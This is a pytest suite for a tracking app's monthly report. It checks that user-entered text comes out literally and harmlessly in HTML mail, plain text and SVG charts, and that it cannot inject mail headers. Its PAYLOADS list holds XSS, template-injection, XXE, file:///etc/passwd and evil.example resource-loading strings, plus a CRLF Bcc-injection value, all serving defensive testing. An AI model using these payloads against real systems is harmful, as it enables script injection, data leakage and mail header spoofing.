"""Hostile texts in a report: each is shown literally, in mail, text, file and picture."""

import email
import re
from datetime import UTC, date, datetime, timedelta
from email import policy
from html.parser import HTMLParser
from xml.etree import ElementTree

import pytest

from application.platform import mail
from application.reports import letters, pictures
from application.reports.facts import Facts, Mark, Quote, Row
from application.reports.letters import Ways
from application.trackers.kinds import Kind

URL = "https://tend.example"
WAYS = Ways(f"{URL}/reports/1", f"{URL}/settings/reports", f"{URL}/unsubscribe/abc")
PAYLOADS = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(1)>",
    "</title><script src=//evil.example/x.js></script>", "</style><style>*{display:none}",
    "<style>@import url(http://evil.example/a.css);</style>",
    "<link rel=stylesheet href=http://evil.example/b.css>",
    "<link rel=attachment href=file:///etc/passwd>", "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<iframe src=http://evil.example></iframe>", "<object data=http://evil.example></object>",
    "<embed src=http://evil.example>", "<img src=http://evil.example/p.gif>",
    "<img srcset='http://evil.example/p.gif 2x'>", "<body background=http://evil.example/b.png>",
    "<table background=http://evil.example/c.png>", "<video poster=http://evil.example/v>",
    "<svg><image href='http://evil.example/i.png'/></svg>",
    "<svg><script>alert(1)</script></svg>", "<svg><foreignObject><b>x</b></foreignObject></svg>",
    "<math><mtext></mtext></math>", "<form action=http://evil.example><input></form>",
    "<a href=javascript:alert(1)>x</a>", "</td></tr></table>", "</body></html>", "<!-- -->",
    "]]><![CDATA[", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc'>]>&e;",
    "&lt;b&gt;&amp;&quot;&#39;", "{{ 7*7 }}", "{% include 'index.html' %}", "{{ config }}",
    "${7*7} #{7*7} <%= 7*7 %>", "url(http://evil.example/u)", "expression(alert(1))",
    "background:url('http://evil.example')", "cid:chart-1", "data:text/html,<b>x</b>",
    "$\\frac{1}{0}$", "\u202egnol si siht\u202c", "مرحبا بالعالم", "👩‍👩‍👧 é ñ 漢字", "a" * 100,
)  # fmt: skip
FIRST = date(2026, 10, 1)


def facts_with(text: str) -> Facts:
    """A report in which every field that people write says `text`."""
    marks = tuple(Mark(FIRST + timedelta(days=n), float(n), n % 5) for n in range(31))
    bare = tuple(Mark(one.day, None, 4) for one in marks)

    def row(kind: Kind, **more) -> Row:
        values = {"marks": marks, "means": tuple(m.value for m in marks), "bars": (), **more}
        return Row(
            tracker_id=1, name=text, kind=kind, unit=text[:20], days_logged=31, days=31,
            figures=f"mostly {text} (3 days)", change=f"{text[:14]} +4 days", streak=1,
            best_streak=2, alt=f"{text} by day.", note=f"Number in {text}", **values,
        )  # fmt: skip

    return Facts(
        person=text, zone="Europe/Vienna", period="2026-10", title="October 2026",
        before="September", first=FIRST, last=date(2026, 10, 31),
        made_at=datetime(2026, 11, 1, 5, tzinfo=UTC), days=31, days_logged=31,
        sentence=f"October was a steady month, with more {text}.",
        rows=(row(Kind.NUMERICAL), row(Kind.MULTIPLE_CHOICE, marks=bare, means=(),
                                       bars=((text, 3), ("Calm", 1)))),
        fullest=f"{text} had the most.", lightest=f"{text} had the least.",
        notes=(Quote(FIRST, text, Kind.BOOLEAN, text),), resting=(f"{text} had no entry.",),
        counted=(), empty=False,
    )  # fmt: skip


class Reading(HTMLParser):
    """What a client would make of a page: tags, attributes that load or lead, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.leads: set[str] = set()
        self.names: set[str] = set()
        self.alts: list[str] = []
        self.said: list[str] = []
        self.styles: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        for name, value in attrs:
            self.names.add(name)
            if name in ("href", "src"):
                self.leads.add(value or "")
            if name == "alt":
                self.alts.append(value or "")
            if name == "style":
                self.styles.append(value or "")

    def handle_data(self, data):
        self.said.append(data)

    def handle_comment(self, data):
        self.tags.append("comment")


def read(html: str) -> Reading:
    reading = Reading()
    reading.feed(html)
    return reading


@pytest.fixture(scope="module")
def plain(make_app) -> Reading:
    """The same report with harmless words."""
    with make_app("sqlite").app_context():
        facts = facts_with("Water")
        return read(letters.write(facts, WAYS, letters.by_cid(facts)).html)


@pytest.mark.row("S8")
@pytest.mark.parametrize("text", PAYLOADS)
def test_a_mail_shows_it_literally_and_fetches_nothing(make_app, plain, text):
    with make_app("sqlite").app_context():
        facts = facts_with(text)
        written = letters.write(facts, WAYS, letters.by_cid(facts))
        seen = read(written.html)
        assert seen.tags == plain.tags
        assert seen.names == plain.names
        assert seen.styles == plain.styles
        assert seen.leads == plain.leads
        assert seen.leads == {WAYS.report, WAYS.settings, WAYS.stop, "cid:chart-1", "cid:chart-2"}
        whole = "".join(seen.said)
        assert whole.count(text) >= "".join(plain.said).count("Water") - 2  # two are cut
        assert f"“{text}”" in whole
        assert seen.alts == [f"{text} by day."] * 2
        assert f"● {text}: 31 of 31" in written.text
        assert f"“{text}”" in written.text
        letter = mail.Letter(
            "mira@example.org", "report", "m1", {"subject": written.subject},
            html=written.html, text=written.text, unsubscribe=WAYS.stop,
        )  # fmt: skip
        sent = mail.compose(letter, make_app("sqlite").config["TEND"]).as_bytes()
    message = email.message_from_bytes(sent, policy=policy.default)
    assert message["Subject"] == "Your October: 31 of 31 days"
    assert not list(message.iter_attachments())
    html = message.get_body(("html",))
    assert html is not None
    assert read(html.get_content()).tags == plain.tags


@pytest.mark.row("S8")
@pytest.mark.parametrize("text", PAYLOADS)
def test_a_picture_holds_paths_and_no_words(text):
    for row in facts_with(text).rows:
        for theme in ("light", "print"):
            svg = pictures.draw(row, "narrow", theme)
            tree = ElementTree.fromstring(svg)
            names = {element.tag.rpartition("}")[2] for element in tree.iter()}
            assert names <= {"svg", "g", "path", "use", "defs", "clipPath", "rect", "metadata"}
            # Words are outlines; what they said is left in comments, escaped.
            said = [f"{n}={v}" for element in tree.iter() for n, v in element.attrib.items()]
            said += [element.text or "" for element in tree.iter()]
            assert not re.search(
                r"evil|script|onload|file:|https?://(?!www\.w3\.org)", " ".join(said)
            )


@pytest.mark.row("S8")
def test_line_breaks_reach_no_header(make_app):
    with make_app("sqlite").app_context():
        facts = facts_with("Walk\r\nBcc: all@example.org\r\n\r\n<b>")
        written = letters.write(facts, WAYS, {})
        letter = mail.Letter(
            "mira@example.org", "report", "m1", {"subject": f"{written.subject}\r\nBcc: x@y.zz"},
            html=written.html, text=written.text,
        )  # fmt: skip
        sent = mail.compose(letter, make_app("sqlite").config["TEND"]).as_bytes()
    message = email.message_from_bytes(sent, policy=policy.default)
    assert message["Bcc"] is None
    assert message["To"] == "mira@example.org"
